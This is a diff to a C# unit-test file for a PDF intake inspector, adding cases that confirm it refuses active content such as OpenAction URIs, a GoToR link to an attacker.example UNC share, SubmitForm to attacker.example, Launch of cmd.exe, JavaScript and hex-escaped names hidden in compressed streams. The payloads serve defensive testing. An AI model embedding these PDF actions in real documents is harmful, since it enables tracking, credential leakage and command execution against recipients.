@@ -7,7 +7,14 @@ namespace ContractDocs.Tests.Intake;
 public sealed partial class DocumentInspectorTests
 {
     [Theory]
-    [InlineData("/OpenAction [3 0 R /Fit]", "<< >>", "OpenAction")]
+    [InlineData("/OpenAction 5 0 R", "<< /S /URI /URI (https://tracker.example.com/opened) >>", "OpenAction /URI")]
+    [InlineData("/OpenAction 3 0 R", "<< >>", "OpenAction")]
+    [InlineData("/Extra 5 0 R", "<< /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) /D [0 /Fit] >>", "GoToR")]
+    [InlineData("/Extra 5 0 R", "<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>", "SubmitForm")]
+    [InlineData("/Extra 5 0 R", "<< /S /ImportData /F (C:\\data.fdf) >>", "ImportData")]
+    [InlineData("/OpenAction << /S /SetOCGState /State [/OFF 5 0 R] >>", "<< /Type /OCG /Name (Clause 12) >>", "SetOCGState")]
+    [InlineData("/OpenAction << /S /Hide /T (Clause 12) >>", "<< >>", "Hide")]
+    [InlineData("/OpenAction << /S /ResetForm >>", "<< >>", "ResetForm")]
     [InlineData("/Names << /JavaScript 5 0 R >>", "<< /Names [] >>", "JavaScript")]
     [InlineData("/Extra << /JS (app.alert\\(1\\)) >>", "<< >>", "JS")]
     [InlineData("/Extra 5 0 R", "<< /S /Launch /F (cmd.exe) >>", "Launch")]
@@ -101,6 +108,35 @@ public sealed partial class DocumentInspectorTests
         var bytes = Encoding.ASCII.GetBytes("<html>polyglot</html>\n").Concat(PdfBuilder.Build()).ToArray();
 
         AssertRefused(DocumentInspector.Inspect(bytes, "contract.pdf", Limits), IntakeCodes.PdfBadHeader);
+    }
+
+    [Theory]
+    [InlineData("\u00ef\u00bb\u00bf")]
+    [InlineData("\n")]
+    [InlineData("PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000")]
+    [InlineData("GIF89a\u0001\u0000\u0001\u0000")]
+    public void Inspect_AnyBytesBeforeThePdfHeader_IsPdfBadHeader(string prefix)
+    {
+        var bytes = Encoding.Latin1.GetBytes(prefix).Concat(PdfBuilder.Build()).ToArray();
+
+        var result = DocumentInspector.Inspect(bytes, "contract.pdf", Limits);
+
+        AssertRefused(result, IntakeCodes.PdfBadHeader);
+        Assert.Contains($"{prefix.Length} bytes before its PDF header", result.Reason, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("/Names << /J#61va#53cript 7 0 R >>", "JavaScript")]
+    [InlineData("/#41A << /O 3 0 R >>", "AA")]
+    [InlineData("/Names << /#45mbeddedFiles 7 0 R >>", "EmbeddedFiles")]
+    public void Inspect_HexEscapedActiveNameInsideACompressedObjectStream_IsRefused(string catalogExtra, string name)
+    {
+        var bytes = PdfBuilder.WithCompressedCatalog(catalogExtra);
+
+        var result = DocumentInspector.Inspect(bytes, "contract.pdf", Limits);
+
+        AssertRefused(result, IntakeCodes.PdfActiveContent);
+        Assert.Contains($"(/{name} inside a compressed object stream)", result.Reason, StringComparison.Ordinal);
     }
 
     [Fact]
